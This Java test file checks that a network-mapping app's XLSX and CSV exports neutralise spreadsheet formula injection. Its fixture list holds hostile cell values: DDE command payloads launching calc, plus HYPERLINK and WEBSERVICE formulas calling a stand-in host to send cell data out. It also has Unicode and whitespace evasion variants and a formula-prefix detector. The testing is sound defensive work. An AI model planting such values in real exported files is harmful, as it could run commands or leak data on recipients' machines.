package org.sightline.network.taking;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.commons.io.input.BOMInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.sightline.kernel.WorkspaceId;
import org.sightline.network.Maps;
import org.sightline.network.map.Drawn;
import org.sightline.network.map.Edit;
import org.sightline.network.map.ElementId;
import org.sightline.network.map.ElementKind;
import org.sightline.network.map.Field;
import org.sightline.testing.SightlineTest;
import org.sightline.testing.TestCasework;
import org.sightline.testing.TestPeople;
import org.sightline.testing.Visitor;
import org.springframework.beans.factory.annotation.Autowired;

/// EX-05: the tables that leave, as other people's code reads them (Apache POI and Commons CSV;
/// ours writes and reads them with neither). Every name is somebody's attempt to have a spreadsheet
/// run something, and no cell is a formula, nor starts like one.
@SightlineTest
class OtherReadersTest {

  private static final List<String> NAMES =
      List.of(
          "=1+1",
          "=HYPERLINK(\"https://planted.invalid/?\"&A1,\"Ann\")",
          "=cmd|' /C calc'!A0",
          "+44 20 7946 0000",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(A1)",
          "\u00A0=1+1",
          "=WEBSERVICE(\"https://planted.invalid\")",
          "a;=1+1",
          "a\t=1+1",
          "a\",=1+1,\"b",
          "Ann \"Ace\" O'Neill, Invented",
          "0012345",
          "1E5",
          "Zoë مريم 日本 \uD83D\uDE00",
          "<b>Bo</b>&amp;]]>");

  private static final String STARTS = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

  @Autowired private Maps maps;
  @Autowired private TestCasework casework;
  @Autowired private TestPeople people;

  private WorkspaceId work;
  private Visitor chair;
  private List<String> labels;

  @BeforeEach
  void draw() {
    var team = casework.aTeam("Readers");
    work = casework.aPieceOf(team);
    chair = people.signedIn(team.chair());
    var ids = NAMES.stream().map(name -> ElementId.random()).toList();
    var edit = Drawn.aPerson(ids.getFirst(), NAMES.getFirst());
    for (int n = 1; n < NAMES.size(); n++) {
      edit = edit.and(Drawn.aPerson(ids.get(n), NAMES.get(n)));
    }
    for (int n = 1; n < NAMES.size(); n++) {
      edit = edit.and(Drawn.aLine(ElementId.random(), ids.get(n - 1), ids.get(n)));
    }
    draw(team, edit);
    labels =
        maps.open(team.asChair(), work).on(ElementKind.NODE).stream()
            .map(node -> node.value(Field.LABEL))
            .toList();
    assertThat(labels).hasSameSizeAs(NAMES);
  }

  @Test
  void aWorkbookHasTextAndNumbersAndNothingThatRuns() throws IOException {
    for (String file : List.of("people.xlsx", "lines.xlsx", "matrix.xlsx")) {
      try (var book = new XSSFWorkbook(new ByteArrayInputStream(take(file)))) {
        assertThat(book.getNumberOfSheets()).isEqualTo(1);
        assertThat(book.getExternalLinksTable()).isEmpty();
        assertThat(book.getAllNames()).isEmpty();
        assertThat(book.isMacroEnabled()).isFalse();
        var sheet = book.getSheetAt(0);
        assertThat(sheet.getHyperlinkList()).isEmpty();
        assertThat(sheet.getDataValidations()).isEmpty();
        var texts = new ArrayList<String>();
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertThat(cell.getCellType())
                .as(file)
                .isIn(CellType.STRING, CellType.NUMERIC, CellType.BLANK);
            if (cell.getCellType() == CellType.STRING) {
              texts.add(cell.getStringCellValue());
              assertThat(cell.getCellStyle().getDataFormatString()).as("text").isEqualTo("@");
            }
          }
        }
        for (String label : labels) {
          assertThat(texts).as(label).anyMatch(text -> text.contains(seen(label)));
        }
      }
    }
  }

  @Test
  void aCsvFileStartsNoFormulaHoweverASpreadsheetCutsIt() throws IOException {
    for (String file : List.of("people.csv", "lines.csv", "matrix.csv", "matrix-directed.csv")) {
      byte[] taken = take(file);
      var rows = rows(taken, CSVFormat.RFC4180);
      int width = rows.getFirst().size();
      assertThat(rows).as(file).allSatisfy(row -> assertThat(row.size()).isEqualTo(width));
      for (char cut : new char[] {',', ';', '\t'}) {
        for (var row :
            rows(
                taken, CSVFormat.RFC4180.builder().setDelimiter(cut).setTrailingData(true).get())) {
          for (String cell : row) {
            assertThat(startsLikeAFormula(cell)).as("%s: %s", file, cell).isFalse();
          }
        }
      }
    }
  }

  @Test
  void aCsvFileSaysEveryNameWithAtMostAMarkInFront() throws IOException {
    var names =
        rows(take("people.csv"), CSVFormat.RFC4180).stream()
            .skip(1)
            .map(row -> row.get(0))
            .toList();

    assertThat(names)
        .containsExactlyInAnyOrderElementsOf(
            labels.stream()
                .map(OtherReadersTest::seen)
                .map(name -> name.replace(";=", ";'="))
                .map(name -> startsLikeAFormula(name) ? "'" + name : name)
                .toList());
  }

  @Test
  void aFormulaIsFoundSoThatThisTestCanFail() throws IOException {
    byte[] planted = "name\r\n\"=1+1\"\r\n".getBytes(StandardCharsets.UTF_8);

    assertThat(startsLikeAFormula(rows(planted, CSVFormat.RFC4180).get(1).get(0))).isTrue();
    try (var book = new XSSFWorkbook()) {
      var cell = book.createSheet().createRow(0).createCell(0);
      cell.setCellFormula("1+1");
      assertThat(cell.getCellType()).isEqualTo(CellType.FORMULA);
    }
  }

  private static List<CSVRecord> rows(byte[] file, CSVFormat format) throws IOException {
    try (var bytes = BOMInputStream.builder().setInputStream(new ByteArrayInputStream(file)).get();
        var parser =
            CSVParser.parse(new InputStreamReader(bytes, StandardCharsets.UTF_8), format)) {
      return parser.getRecords();
    }
  }

  /// What is left when a program skips what shows nothing.
  private static boolean startsLikeAFormula(String cell) {
    if (cell.matches("-?\\d+(\\.\\d+)?")) {
      return false;
    }
    String rest = cell.replaceFirst("^[\\p{Zs}\\uFEFF\\u200B-\\u200F\\u2060\\u00AD]+", "");
    return !rest.isEmpty() && STARTS.indexOf(rest.charAt(0)) >= 0;
  }

  /// A name stands on one line.
  private static String seen(String label) {
    return label.replace('\t', ' ').strip();
  }

  private void draw(TestCasework.Team team, Edit edit) {
    maps.draw(team.asChair(), work, edit, 0);
  }

  private byte[] take(String file) {
    var taken = chair.get("/network/maps/" + work + "/copies/" + file);
    assertThat(taken.status()).as(file).isEqualTo(200);
    return taken.response().body();
  }
}
